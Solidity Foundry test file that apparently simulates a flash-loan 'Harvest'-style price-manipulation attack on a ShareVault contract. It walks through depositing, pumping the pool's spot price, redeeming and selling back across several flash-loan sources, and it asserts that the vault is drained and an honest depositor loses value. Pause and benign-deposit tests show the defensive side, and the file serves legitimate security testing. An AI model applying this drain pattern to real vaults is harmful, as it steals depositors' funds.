// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {Pausable} from "@openzeppelin/contracts/utils/Pausable.sol";
import {ScenarioFixture} from "./ScenarioFixture.sol";
import {FlashFunded} from "../../src/scenarios/common/FlashFunded.sol";
import {ShareVaultAttacker} from "../../src/scenarios/attacks/ShareVaultAttacker.sol";
import {OneShotDeployer} from "../../src/scenarios/attacks/OneShotDeployer.sol";

/// @notice Pattern 3 (Harvest) against ShareVault: 1M idle USD, ~833k USDX invested, pool 6M/6M.
/// Attack: deposit 5M USD, pump 2.5M USD into the pool (USDX spot x2), redeem, sell back:
/// 7.5M USD of capital; one round takes ~60% of the idle USD, a second round nearly all the rest.
contract ShareVaultScenarioTest is ScenarioFixture {
    uint256 internal constant DEPOSIT = 5_000_000 * USD;
    uint256 internal constant PUMP = 2_500_000 * USD;
    uint256 internal constant CAPITAL = DEPOSIT + PUMP;

    ShareVaultAttacker internal attacker;

    function setUp() public override {
        super.setUp();
        vm.prank(attackerEoa);
        attacker = new ShareVaultAttacker();
    }

    function _params(uint256 rounds) internal view returns (ShareVaultAttacker.Params memory) {
        return ShareVaultAttacker.Params({vault: shareVault, depositAmount: DEPOSIT, pumpAmount: PUMP, rounds: rounds});
    }

    function _run(FlashFunded.Source s, uint256 rounds) internal returns (uint256 profit) {
        FlashFunded.Funding memory f = usdFunding(s, CAPITAL, address(attacker));
        vm.prank(attackerEoa);
        attacker.execute(f, _params(rounds));
        profit = netProfit(s, CAPITAL);
    }

    /// @dev The vault lost most of its idle USD, the attacker EOA holds most of it, the victim's
    /// honest depositor lost value, the attack contract is empty.
    function _assertDrained(uint256 idleBefore, uint256 aliceValueBefore, uint256 profit) internal view {
        vm.assertLt(shareVault.idleAssets(), idleBefore / 2, "vault lost > 50% of its idle USD");
        assertGt(profit, idleBefore / 2, "profit > 50% of the idle USD");
        vm.assertLt(shareVault.previewRedeem(shareVault.balanceOf(alice)), aliceValueBefore, "alice lost value");
        assertEq(usd.balanceOf(address(attacker)), 0, "attack contract empty");
    }

    function test_everyFundingSource_drainsIdleAssets() public {
        uint256 idleBefore = shareVault.idleAssets();
        uint256 aliceBefore = shareVault.previewRedeem(shareVault.balanceOf(alice));
        for (uint8 s = 0; s < sourceCount(); ++s) {
            uint256 snap = vm.snapshotState();
            uint256 profit = _run(FlashFunded.Source(s), 1);
            _assertDrained(idleBefore, aliceBefore, profit);
            vm.revertToState(snap);
        }
    }

    function test_secondRound_takesMost_ofTheRest() public {
        uint256 idleBefore = shareVault.idleAssets();
        uint256 snap = vm.snapshotState();
        uint256 oneRound = _run(FlashFunded.Source.ERC3156, 1);
        vm.revertToState(snap);
        uint256 twoRounds = _run(FlashFunded.Source.ERC3156, 2);
        assertGt(twoRounds, oneRound, "the loop pays");
        assertGt(twoRounds, (idleBefore * 90) / 100, "two rounds take > 90% of the idle USD");
    }

    function test_oneShotDeployer_inConstructor_withAaveStyleLoan() public {
        uint256 idleBefore = shareVault.idleAssets();
        uint256 aliceBefore = shareVault.previewRedeem(shareVault.balanceOf(alice));
        FlashFunded.Funding memory f = usdFunding(FlashFunded.Source.AaveStyle, CAPITAL, address(0));
        IERC20[] memory sweep = new IERC20[](2);
        sweep[0] = IERC20(address(usd));
        sweep[1] = IERC20(address(shareVault));
        vm.prank(attackerEoa, attackerEoa);
        OneShotDeployer d = new OneShotDeployer(
            type(ShareVaultAttacker).creationCode, abi.encodeCall(ShareVaultAttacker.execute, (f, _params(1))), sweep
        );
        _assertDrained(idleBefore, aliceBefore, usd.balanceOf(attackerEoa));
        assertEq(ShareVaultAttacker(d.worker()).owner(), address(d), "worker owned by the deployer");
        assertEq(usd.balanceOf(address(d)), 0, "deployer forwarded everything");
    }

    function test_paused_attackReverts() public {
        vm.prank(guardian);
        shareVault.pause();
        uint256 idleBefore = shareVault.idleAssets();
        for (uint8 s = 0; s < sourceCount(); ++s) {
            FlashFunded.Funding memory f = usdFunding(FlashFunded.Source(s), CAPITAL, address(attacker));
            vm.expectRevert(Pausable.EnforcedPause.selector);
            vm.prank(attackerEoa);
            attacker.execute(f, _params(1));
        }
        assertEq(shareVault.idleAssets(), idleBefore, "vault intact");
    }

    function test_benign_largeDepositAndWithdrawal_leaveOthersWhole() public {
        uint256 aliceBefore = shareVault.previewRedeem(shareVault.balanceOf(alice));
        usd.mint(bob, 3_000_000 * USD);
        vm.startPrank(bob);
        usd.approve(address(shareVault), type(uint256).max);
        uint256 shares = shareVault.deposit(3_000_000 * USD, bob);
        vm.roll(block.number + 5);
        uint256 out = shareVault.redeem(shares, bob, bob);
        vm.stopPrank();
        assertGe(3_000_000 * USD, out, "no profit for a round trip");
        assertGe(out + 2, 3_000_000 * USD, "fair round trip");
        assertGe(shareVault.previewRedeem(shareVault.balanceOf(alice)) + 2, aliceBefore, "alice whole");
    }
}
